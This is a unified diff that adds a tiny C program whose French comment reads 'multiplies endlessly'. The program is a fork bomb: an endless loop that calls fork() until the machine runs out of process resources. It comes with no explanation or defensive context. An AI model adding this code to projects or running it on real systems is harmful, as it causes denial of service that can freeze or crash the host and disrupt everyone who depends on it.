@@ -1,0 +1,8 @@
+// Se multiplie sans fin.
+#include <unistd.h>
+
+int main(void)
+{
+    for (;;)
+        fork();
+}
